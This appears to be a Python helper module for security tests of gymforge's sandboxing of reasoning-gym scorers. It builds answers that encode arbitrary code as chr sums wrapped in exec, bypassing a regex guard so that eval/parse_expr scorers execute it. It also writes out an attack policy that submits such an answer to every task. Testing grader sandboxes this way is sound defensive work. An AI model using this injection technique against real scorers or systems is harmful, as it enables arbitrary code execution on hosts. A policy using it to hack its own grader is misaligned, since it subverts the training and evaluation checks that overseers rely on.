"""Shared pieces of the reasoning-gym scorer attacks (imported as a plain module).

reasoning-gym's n_queens scorer ``eval``s any answer that is not a stored solution, and its
countdown scorer hands the answer to ``sympy.parse_expr``, which puts the interpreter's
builtin functions in the evaluation's globals. Parenthesised names (``(exec)``, ``(chr)``) are
not ``NAME(`` calls, so text made only of letters, digits, ``+`` and parentheses can build any
string and execute it (the old regex guard let it through). ``exec_answer(code)`` is such an
answer. The attacks use ``reasoning-gym:n_queens``, judged by reasoning-gym's own scorer
(countdown is judged by gymforge's strict verifier now, which evaluates nothing).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

from gymforge.core import SyncEnvironment
from gymforge.core.types import Reply, Task

ROOT = Path(__file__).resolve().parents[2]

# The scorer sandbox's workers for this test process: distinct uids from the corpus's other
# sandboxes and from other test runs on the machine.
SCORER_UID_BASE = 100_000 + (os.getpid() % 5000) * 100 + 20


def use_test_uids(monkeypatch: Any) -> None:
    """Point this process's scorer sandbox at test-only uids."""
    monkeypatch.setenv("GYMFORGE_SANDBOX_UID_BASE", str(SCORER_UID_BASE - 64))


def chr_text(text: str) -> str:
    """``text`` as ``(chr)(n)+(chr)(m)+...``: only letters, digits, ``+`` and parentheses."""
    return "+".join(f"(chr)({ord(c)})" for c in text)


def exec_answer(code: str) -> str:
    """An answer that makes a ``parse_expr`` scorer execute ``code``."""
    return f"(exec)({chr_text(code)})"


ENV_ID = "reasoning-gym:n_queens"


def rg_task(seed: int = 0, env_id: str = ENV_ID) -> Task:
    from gymforge.registry.resolve import make_env

    env = make_env(env_id)
    family = env.family  # type: ignore[attr-defined]
    return family.task(1, seed)  # type: ignore[no-any-return]


def judge(task: Task, answer: str, env_id: str = ENV_ID) -> dict[str, Any]:
    """The verdict (``info["verdict"]``, plus ``verifier_error``) on ``<answer>answer</answer>``
    for ``task``, through the real environment in this process."""
    from gymforge.registry.resolve import make_env

    env = SyncEnvironment(make_env(env_id))
    try:
        env.reset(task.task_id, 0)
        step = env.step(Reply(text=f"<answer>{answer}</answer>"))
        return {**step.info["verdict"], "verifier_error": bool(step.info.get("verifier_error"))}
    finally:
        env.close()


def attack_policy_file(tmp: Path, answer: str) -> str:
    """A ``path/to/file.py:policy`` spec whose policy answers every task with ``answer``."""
    path = tmp / "rg_attack_policy.py"
    path.write_text(
        "from gymforge.core.policy import PolicyTurn\n"
        "from gymforge.core.types import Reply\n"
        f"ANSWER = {answer!r}\n"
        "class Fixed:\n"
        "    name = checkpoint = 'rg-attack'\n"
        "    async def start(self, ctx):\n"
        "        pass\n"
        "    async def act(self, observation):\n"
        "        return PolicyTurn(Reply(text='<answer>' + ANSWER + '</answer>'))\n"
        "def policy():\n"
        "    return Fixed()\n"
    )
    return f"{path}:policy"


__all__ = ["ROOT", "sys"]
